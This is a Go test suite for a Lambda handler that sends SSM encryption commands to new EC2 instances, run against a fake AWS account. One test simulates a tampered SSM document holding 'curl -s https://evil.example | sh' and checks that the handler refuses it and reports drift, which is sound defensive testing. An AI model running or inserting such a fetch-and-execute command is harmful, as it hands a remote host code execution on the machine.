package launch_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/storecrypt/storecrypt/internal/contract"
	"github.com/storecrypt/storecrypt/internal/fakeaws"
	"github.com/storecrypt/storecrypt/internal/launch"
	"github.com/storecrypt/storecrypt/test/deployment"
)

var launched = time.Date(2026, 11, 27, 6, 0, 0, 0, time.UTC)

type env struct {
	world   *fakeaws.World
	h       *launch.Handler
	logs    *bytes.Buffer
	metrics *bytes.Buffer
}

func newEnv(t *testing.T, w *fakeaws.World) *env {
	t.Helper()
	d, err := deployment.Into(w, fakeaws.KeyARN)
	if err != nil {
		t.Fatal(err)
	}
	c, err := launch.LoadConfig(d.Getenv)
	if err != nil {
		t.Fatal(err)
	}
	e := &env{world: w, logs: &bytes.Buffer{}, metrics: &bytes.Buffer{}}
	now := launched.Add(time.Minute)
	e.h = launch.New(c, w.Config(), slog.New(slog.NewJSONHandler(e.logs, nil)), e.metrics)
	e.h.Now = func() time.Time { return now }
	return e
}

func running(id string) string {
	return launch.StateChangeEvent(id, launched)
}

func sqsBatch(bodies ...string) events.SQSEvent {
	var ev events.SQSEvent
	for n, b := range bodies {
		ev.Records = append(ev.Records, events.SQSMessage{MessageId: fmt.Sprintf("msg-%d", n), Body: b})
	}
	return ev
}

func (e *env) handle(t *testing.T, bodies ...string) []string {
	t.Helper()
	resp, err := e.h.HandleSQS(context.Background(), sqsBatch(bodies...))
	if err != nil {
		t.Fatal(err)
	}
	var failed []string
	for _, f := range resp.BatchItemFailures {
		failed = append(failed, f.ItemIdentifier)
	}
	return failed
}

// commanded returns the instances each command targeted, in order.
func (e *env) commanded() []string {
	var ids []string
	e.world.With(func() {
		for _, c := range e.world.Commands {
			ids = append(ids, c.InstanceIDs...)
		}
	})
	return ids
}

func (e *env) tags(id string) map[string]string {
	var tags map[string]string
	e.world.With(func() { tags = maps(e.world.Instances[id].Tags) })
	return tags
}

func maps(m map[string]string) map[string]string {
	out := map[string]string{}
	for k, v := range m {
		out[k] = v
	}
	return out
}

func TestScope(t *testing.T) {
	for _, tc := range []struct {
		name    string
		profile string
		tags    map[string]string
		want    bool
	}{
		{"configured role", fakeaws.Profile(fakeaws.KeyUser), nil, true},
		{"opt-in tag with another key user's role", fakeaws.Profile(fakeaws.GrantUser), map[string]string{contract.TagEncrypt: "true"}, true},
		{"configured role opted out", fakeaws.Profile(fakeaws.KeyUser), map[string]string{contract.TagEncrypt: "false"}, false},
		{"neither", fakeaws.Profile(fakeaws.GrantUser), nil, false},
		{"no profile, no tag", "", nil, false},
		{"opt-in tag with another value", fakeaws.Profile(fakeaws.GrantUser), map[string]string{contract.TagEncrypt: "yes"}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount()
			w.AddInstance("i-00000000000000001", "i4i.large", tc.profile, tc.tags, launched)
			e := newEnv(t, w)
			if failed := e.handle(t, running("i-00000000000000001")); len(failed) != 0 {
				t.Fatalf("batch item failures %v", failed)
			}
			got := len(e.commanded()) == 1
			if got != tc.want {
				t.Fatalf("commanded %v, want %v", got, tc.want)
			}
			if got {
				tags := e.tags("i-00000000000000001")
				if tags[contract.TagStatus] != contract.StatusPending || tags[contract.TagCommandID] == "" || tags[contract.TagLaunchTime] != launched.Format(time.RFC3339) {
					t.Errorf("tags %v", tags)
				}
				var params map[string][]string
				w.With(func() { params = w.Commands[0].Parameters })
				if params["KmsKeyId"][0] != fakeaws.KeyARN || params["KeySource"][0] != contract.KeySourceKMSDataKey {
					t.Errorf("parameters %v", params)
				}
			}
		})
	}
}

func TestOutcomes(t *testing.T) {
	const id = "i-00000000000000001"
	for _, tc := range []struct {
		name      string
		setup     func(w *fakeaws.World)
		body      string
		retried   bool
		status    string
		reason    contract.Reason
		commanded bool
	}{
		{"no instance store", func(w *fakeaws.World) { w.Instances[id].Type = "m5.large" }, running(id), false, contract.StatusSkipped, contract.ReasonNoInstanceStore, false},
		{"role not a key user", func(w *fakeaws.World) {
			w.Instances[id].ProfileARN = fakeaws.Profile(fakeaws.NotKeyUser)
			w.Instances[id].Tags[contract.TagEncrypt] = "true"
		}, running(id), false, contract.StatusBlocked, contract.ReasonNotKeyUser, false},
		{"key disabled", func(w *fakeaws.World) { w.Keys[fakeaws.KeyARN].State = "Disabled" }, running(id), false, contract.StatusBlocked, contract.ReasonKeyDisabled, false},
		{"instance still pending", func(w *fakeaws.World) { w.Instances[id].State = "pending" }, running(id), true, "", "", false},
		{"instance terminated", func(w *fakeaws.World) { w.Instances[id].State = "terminated" }, running(id), false, "", "", false},
		{"instance not visible yet: EC2 is eventually consistent", func(w *fakeaws.World) { w.Instances[id].HiddenFor = 1 }, running(id), true, "", "", false},
		{"instance gone", func(w *fakeaws.World) { delete(w.Instances, id) }, launch.StateChangeEvent(id, launched.Add(-20*time.Minute)), false, "", "", false},
		{"SSM agent never online", func(w *fakeaws.World) { w.Instances[id].OnlineAfter = -1 }, running(id), true, "", "", false},
		{"malformed event", nil, `{"detail-type": 5}`, false, "", "", false},
		{"stopped event", nil, strings.Replace(running(id), `"state":"running"`, `"state":"stopped"`, 1), false, "", "", false},
		{"already pending for this launch", func(w *fakeaws.World) {
			w.Instances[id].Tags[contract.TagStatus] = contract.StatusPending
			w.Instances[id].Tags[contract.TagLaunchTime] = launched.Format(time.RFC3339)
			w.Instances[id].Tags[contract.TagAt] = launched.Add(30 * time.Second).Format(time.RFC3339)
		}, running(id), false, contract.StatusPending, "", false},
		{"encrypted before a stop/start", func(w *fakeaws.World) {
			w.Instances[id].Tags[contract.TagStatus] = contract.StatusEncrypted
			w.Instances[id].Tags[contract.TagLaunchTime] = launched.Add(-24 * time.Hour).Format(time.RFC3339)
		}, running(id), false, contract.StatusPending, "", true},
		{"describe throttled, retried by the SDK", func(w *fakeaws.World) { w.Fault = fakeaws.Throttle("DescribeInstances") }, running(id), false, contract.StatusPending, "", true},
		{"send throttled, retried by the SDK", func(w *fakeaws.World) { w.Fault = fakeaws.Throttle("SendCommand") }, running(id), false, contract.StatusPending, "", true},
		{"send fails for good", func(w *fakeaws.World) {
			w.Fault = func(_, op string, _ int) error {
				if op == "SendCommand" {
					return fakeaws.APIError("InvalidInstanceId", "Instances not in a valid state")
				}
				return nil
			}
		}, running(id), true, "", "", false},
		{"binding check denied to the function", func(w *fakeaws.World) {
			w.Fault = func(_, op string, _ int) error {
				if op == "SimulatePrincipalPolicy" {
					return fakeaws.APIError("AccessDenied", "not authorized to perform iam:SimulatePrincipalPolicy")
				}
				return nil
			}
		}, running(id), true, "", "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount()
			w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
			if tc.setup != nil {
				w.With(func() { tc.setup(w) })
			}
			e := newEnv(t, w)
			failed := e.handle(t, tc.body)
			if got := len(failed) == 1; got != tc.retried {
				t.Errorf("retried %v, want %v", got, tc.retried)
			}
			if got := len(e.commanded()) == 1; got != tc.commanded {
				t.Errorf("commanded %v, want %v", got, tc.commanded)
			}
			var tags map[string]string
			w.With(func() {
				if inst, ok := w.Instances[id]; ok {
					tags = maps(inst.Tags)
				}
			})
			if tags[contract.TagStatus] != tc.status || contract.Reason(tags[contract.TagReason]) != tc.reason {
				t.Errorf("tags %v, want status %q reason %q", tags, tc.status, tc.reason)
			}
			if tc.status == contract.StatusBlocked {
				var evs []fakeaws.Event
				w.With(func() { evs = slices.Clone(w.Events) })
				if len(evs) != 1 || evs[0].DetailType != contract.EventInstanceBlocked || !strings.Contains(evs[0].Detail, string(tc.reason)) {
					t.Errorf("alert events %+v", evs)
				}
				if !strings.Contains(e.metrics.String(), `"Blocked":1`) {
					t.Errorf("no Blocked metric: %s", e.metrics)
				}
			}
			for _, line := range strings.Split(strings.TrimSpace(e.logs.String()), "\n") {
				if line != "" && !strings.Contains(line, `"event_id"`) {
					t.Errorf("log line without event_id: %s", line)
				}
			}
		})
	}
}

// TestLateSSMAgent: the agent is not Online on the first try; SQS brings the message back
// and the second try sends the command, once.
func TestLateSSMAgent(t *testing.T) {
	w := fakeaws.NewAccount()
	w.AddInstance("i-00000000000000001", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched).OnlineAfter = 2
	e := newEnv(t, w)
	for try, want := range []int{1, 1, 0} {
		failed := e.handle(t, running("i-00000000000000001"))
		if len(failed) != want {
			t.Fatalf("try %d: %d failures, want %d", try+1, len(failed), want)
		}
	}
	if got := e.commanded(); len(got) != 1 {
		t.Fatalf("commands to %v, want exactly one", got)
	}
}

func TestCloudTrailRunInstances(t *testing.T) {
	w := fakeaws.NewAccount()
	for _, id := range []string{"i-0aaaaaaaaaaaaaaa1", "i-0aaaaaaaaaaaaaaa2", "i-0aaaaaaaaaaaaaaa3"} {
		w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
	}
	body, err := eventsFile("cloudtrail-runinstances.json")
	if err != nil {
		t.Fatal(err)
	}
	e := newEnv(t, w)
	e.handle(t, body)
	if got := e.commanded(); len(got) != 3 {
		t.Fatalf("commanded %v, want the three instances in one command", got)
	}
	if n := e.world.Calls()["SSM.SendCommand"]; n != 1 {
		t.Errorf("%d SendCommand calls, want 1", n)
	}
}

func TestSweep(t *testing.T) {
	w := fakeaws.NewAccount()
	w.AddInstance("i-00000000000000001", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)     // never seen
	w.AddInstance("i-00000000000000002", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), map[string]string{ // done
		contract.TagStatus: contract.StatusEncrypted, contract.TagLaunchTime: launched.Format(time.RFC3339)}, launched)
	w.AddInstance("i-00000000000000003", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), map[string]string{ // lost result
		contract.TagStatus: contract.StatusPending, contract.TagLaunchTime: launched.Format(time.RFC3339),
		contract.TagAt: launched.Add(-2 * time.Hour).Format(time.RFC3339)}, launched)
	w.AddInstance("i-00000000000000004", "i4i.large", fakeaws.Profile(fakeaws.GrantUser), nil, launched) // out of scope
	e := newEnv(t, w)
	raw, err := eventsFile("scheduled-sweep.json")
	if err != nil {
		t.Fatal(err)
	}
	out, err := e.h.Invoke(context.Background(), json.RawMessage(raw))
	if err != nil {
		t.Fatal(err)
	}
	res := out.(launch.SweepResult)
	if !slices.Equal(res.Enqueued, []string{"i-00000000000000001", "i-00000000000000003"}) || res.InScope != 3 || res.Running != 4 {
		t.Fatalf("sweep %+v", res)
	}
	var msgs []string
	w.With(func() { msgs = slices.Clone(w.Messages) })
	for _, m := range msgs {
		ids, err := launch.InstanceIDs(m)
		if err != nil || len(ids) != 1 {
			t.Errorf("queued %q: %v %v", m, ids, err)
		}
	}
}

func TestLoadConfig(t *testing.T) {
	good := map[string]string{contract.EnvKMSKeyARN: fakeaws.KeyARN, contract.EnvDocumentName: "storecrypt-apply", contract.EnvDocumentDigest: strings.Repeat("0", 64)}
	for _, tc := range []struct {
		name string
		edit map[string]string
		says string
	}{
		{"good", nil, ""},
		{"missing key", map[string]string{contract.EnvKMSKeyARN: ""}, contract.EnvKMSKeyARN},
		{"alias instead of key ARN", map[string]string{contract.EnvKMSKeyARN: "alias/storecrypt"}, "want a KMS key ARN"},
		{"missing document", map[string]string{contract.EnvDocumentName: ""}, contract.EnvDocumentName},
		{"malformed role", map[string]string{contract.EnvInstanceRoles: "arn:aws:iam::1:user/bob"}, contract.EnvInstanceRoles},
		{"malformed opt-in", map[string]string{contract.EnvOptInTag: "encrypt"}, "want key=value"},
		{"s3-kms without secret", map[string]string{contract.EnvKeySource: contract.KeySourceS3KMS}, "--secret"},
		{"bad stale duration", map[string]string{contract.EnvStaleAfter: "soon"}, contract.EnvStaleAfter},
		{"missing document digest", map[string]string{contract.EnvDocumentDigest: ""}, contract.EnvDocumentDigest},
		{"aws-cn key", map[string]string{contract.EnvKMSKeyARN: "arn:aws-cn:kms:cn-north-1:111122223333:key/11111111-2222-4333-8444-555555555555"}, ""},
		{"aws-us-gov roles", map[string]string{contract.EnvInstanceRoles: "arn:aws-us-gov:iam::111122223333:role/app"}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			vars := maps(good)
			for k, v := range tc.edit {
				vars[k] = v
			}
			_, err := launch.LoadConfig(func(k string) string { return vars[k] })
			switch {
			case tc.says == "" && err != nil:
				t.Fatalf("got %v", err)
			case tc.says != "" && (err == nil || !strings.Contains(err.Error(), tc.says)):
				t.Fatalf("got %v, want an error saying %q", err, tc.says)
			}
		})
	}
}

// TestDuplicateCostsNothing: a duplicate of an event this container already handled is
// dropped without a call; an event from a later start of the same instance is not.
func TestDuplicateCostsNothing(t *testing.T) {
	const id = "i-00000000000000001"
	w := fakeaws.NewAccount()
	w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
	e := newEnv(t, w)
	e.handle(t, running(id))
	before := w.TotalCalls()
	e.handle(t, running(id))
	if after := w.TotalCalls(); after != before {
		t.Errorf("a duplicate cost %d calls, want 0", after-before)
	}
	restarted := launched.Add(2 * time.Minute)
	w.With(func() { w.Instances[id].LaunchTime = restarted })
	e.handle(t, launch.StateChangeEvent(id, restarted))
	if got := e.commanded(); len(got) != 2 {
		t.Errorf("commands %v, want a second one for the new start", got)
	}
}

// TestSlowAPIsRetryLater: when the APIs are slower than the invocation may wait, the
// messages go back to the queue rather than being lost.
func TestSlowAPIsRetryLater(t *testing.T) {
	const id = "i-00000000000000001"
	w := fakeaws.NewAccount()
	w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
	w.Delay = 200 * time.Millisecond
	e := newEnv(t, w)
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	resp, err := e.h.HandleSQS(ctx, sqsBatch(running(id)))
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.BatchItemFailures) != 1 || len(e.commanded()) != 0 {
		t.Fatalf("failures %v, commands %v; want the message back on the queue and no command", resp.BatchItemFailures, e.commanded())
	}
}

// TestDocumentPinned: the command runs the version whose content the stack deployed. When
// someone makes another version the default, the function still sends the deployed one,
// and says so (metric, log, event); with no trusted version it sends nothing.
func TestDocumentPinned(t *testing.T) {
	const id = "i-00000000000000001"
	for _, tc := range []struct {
		name    string
		tamper  func(w *fakeaws.World, content string)
		version string // the version sent; "" for none
		drift   bool
		retried bool
	}{
		{"the deployed default", nil, "1", false, false},
		{"a new default with another script", func(w *fakeaws.World, c string) {
			w.AddDocument(contract.DocumentName, strings.Replace(c, "set -eu", "set -eu; curl -s https://evil.example | sh", 1), true)
		}, "1", true, false},
		{"a redeploy: new default, deployed content", func(w *fakeaws.World, c string) {
			w.AddDocument(contract.DocumentName, c, true)
		}, "2", false, false},
		{"no version holds the deployed content", func(w *fakeaws.World, c string) {
			w.With(func() { w.Documents[contract.DocumentName].Versions[0] = strings.Replace(c, "set -eu", "set -u", 1) })
		}, "", true, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount()
			w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), nil, launched)
			e := newEnv(t, w)
			if tc.tamper != nil {
				var deployed string
				w.With(func() { deployed = w.Documents[contract.DocumentName].Versions[0] })
				tc.tamper(w, deployed)
			}
			failed := e.handle(t, running(id))
			var sent []string
			var events []fakeaws.Event
			w.With(func() {
				for _, c := range w.Commands {
					sent = append(sent, c.DocumentVersion)
				}
				events = slices.Clone(w.Events)
			})
			if want := []string{tc.version}; tc.version == "" && len(sent) != 0 || tc.version != "" && !slices.Equal(sent, want) {
				t.Errorf("sent versions %v, want %q", sent, tc.version)
			}
			if (len(failed) == 1) != tc.retried {
				t.Errorf("retried %v, want %v", failed, tc.retried)
			}
			drift := strings.Contains(e.metrics.String(), `"DocumentDrift":1`)
			if drift != tc.drift || tc.drift && (len(events) != 1 || events[0].DetailType != contract.EventDocumentDrift) {
				t.Errorf("drift metric %v, events %+v; want drift %v", drift, events, tc.drift)
			}
		})
	}
}

// TestSweepRetries: the sweep leaves terminal failures to a person, and retries the
// others after a backoff that doubles with each attempt.
func TestSweepRetries(t *testing.T) {
	now := launched.Add(time.Minute)
	for _, tc := range []struct {
		name     string
		reason   contract.Reason
		attempt  string
		ago      time.Duration
		enqueued bool
	}{
		{"refused-unsafe is terminal", "refused-unsafe", "1", 10 * time.Hour, false},
		{"bad-input is terminal", "bad-input", "1", 10 * time.Hour, false},
		{"no-devices is terminal", "no-devices", "1", 10 * time.Hour, false},
		{"key-unavailable before its backoff", "key-unavailable", "1", 10 * time.Minute, false},
		{"key-unavailable after its backoff", "key-unavailable", "1", 16 * time.Minute, true},
		{"third attempt waits an hour", "key-unavailable", "3", 50 * time.Minute, false},
		{"third attempt after an hour", "key-unavailable", "3", 61 * time.Minute, true},
		{"the backoff stops growing at four hours", "system-error", "12", 4*time.Hour + time.Minute, true},
		{"unverified is retried", "no-report", "1", 16 * time.Minute, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := fakeaws.NewAccount()
			status := contract.StatusFailed
			if tc.reason == contract.ReasonNoReport {
				status = contract.StatusUnverified
			}
			w.AddInstance("i-00000000000000001", "i4i.large", fakeaws.Profile(fakeaws.KeyUser), map[string]string{
				contract.TagStatus: status, contract.TagReason: string(tc.reason), contract.TagAttempt: tc.attempt,
				contract.TagLaunchTime: launched.Format(time.RFC3339), contract.TagAt: now.Add(-tc.ago).Format(time.RFC3339)}, launched)
			e := newEnv(t, w)
			res, err := e.h.Sweep(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if got := len(res.Enqueued) == 1; got != tc.enqueued {
				t.Errorf("enqueued %v, want %v", got, tc.enqueued)
			}
		})
	}
}

// TestAttemptCounted: a retry after a failure is the next attempt.
func TestAttemptCounted(t *testing.T) {
	const id = "i-00000000000000001"
	w := fakeaws.NewAccount()
	w.AddInstance(id, "i4i.large", fakeaws.Profile(fakeaws.KeyUser), map[string]string{
		contract.TagStatus: contract.StatusFailed, contract.TagReason: "key-unavailable", contract.TagAttempt: "2",
		contract.TagLaunchTime: launched.Format(time.RFC3339), contract.TagAt: launched.Add(-2 * time.Hour).Format(time.RFC3339)}, launched)
	e := newEnv(t, w)
	e.handle(t, running(id))
	if tags := e.tags(id); tags[contract.TagStatus] != contract.StatusPending || tags[contract.TagAttempt] != "3" {
		t.Errorf("tags %v, want pending, attempt 3", tags)
	}
}
